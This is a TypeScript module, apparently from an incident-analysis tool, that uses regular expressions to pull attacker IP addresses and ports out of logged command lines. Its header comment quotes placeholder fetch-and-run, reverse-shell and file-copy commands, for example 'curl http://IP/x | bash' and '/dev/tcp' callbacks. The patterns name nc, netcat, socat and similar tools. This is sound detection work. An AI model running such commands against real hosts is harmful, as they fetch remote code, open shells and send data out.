/**
 * Attacker infrastructure named inside a command line: where a payload was fetched from (`curl
 * http://IP/x | bash`, `wget IP/x`), where a shell calls back (`bash -i >& /dev/tcp/IP/PORT`,
 * `nc IP PORT`, `socat … TCP:IP:PORT`), where files were copied to (`scp f user@IP:`, `rsync … IP::`).
 * Pure parsing of the command as the host logged it; links/command-indicators.ts decides which
 * commands are the attacker's. Only literal addresses: a host name in a command names no flow.
 */
import { canonicalIp, isIp } from '../core/ip.js';

export interface CommandIndicator {
  ip: string;
  port: number | null;
  /** How the command uses it: a download, a call back, a copy. */
  use: 'download' | 'callback' | 'copy';
}

const V4 = String.raw`\d{1,3}(?:\.\d{1,3}){3}`;
const V6 = String.raw`\[[0-9A-Fa-f:.]+\]`;
const ADDR = `(${V4}|${V6})`;

/** Each pattern: the expression, the group of the address, of the port, and the use. */
const PATTERNS: readonly { re: RegExp; port: number | null; use: CommandIndicator['use'] }[] = [
  { re: new RegExp(String.raw`\b(?:https?|ftps?|tftp)://(?:[^\s/@]*@)?${ADDR}(?::(\d+))?`, 'g'), port: 2, use: 'download' },
  { re: new RegExp(String.raw`/dev/(?:tcp|udp)/${ADDR}/(\d+)`, 'g'), port: 2, use: 'callback' },
  { re: new RegExp(String.raw`\b(?:nc|ncat|netcat|telnet)(?:\s+-[\w-]+(?:\s+(?!${V4})[^\s-]\S*)?)*\s+${ADDR}\s+(\d+)`, 'g'), port: 2, use: 'callback' },
  { re: new RegExp(String.raw`\b(?:tcp|udp|tcp4|udp4|openssl)(?:-connect)?:${ADDR}:(\d+)`, 'gi'), port: 2, use: 'callback' },
  { re: new RegExp(String.raw`\b(?:curl|wget)(?:\s+-[\w-]+(?:\s+(?!${V4})[^\s-]\S*)?)*\s+['"]?${ADDR}(?::(\d+))?`, 'g'), port: 2, use: 'download' },
  { re: new RegExp(String.raw`\b(?:scp|rsync|sftp)\b[^;&|]*?\s(?:[\w.-]+@)?${ADDR}:`, 'g'), port: null, use: 'copy' },
];

/** The addresses a command line sends to or fetches from, canonical, each once (first use wins). */
export function indicatorsInCommand(command: string): CommandIndicator[] {
  const out = new Map<string, CommandIndicator>();
  for (const p of PATTERNS) {
    for (const m of command.matchAll(p.re)) {
      const raw = m[1]!.replace(/^\[|\]$/g, '');
      if (!isIp(raw)) continue;
      const ip = canonicalIp(raw);
      if (!out.has(ip)) out.set(ip, { ip, port: p.port !== null && m[p.port] ? Number(m[p.port]) : null, use: p.use });
    }
  }
  return [...out.values()];
}
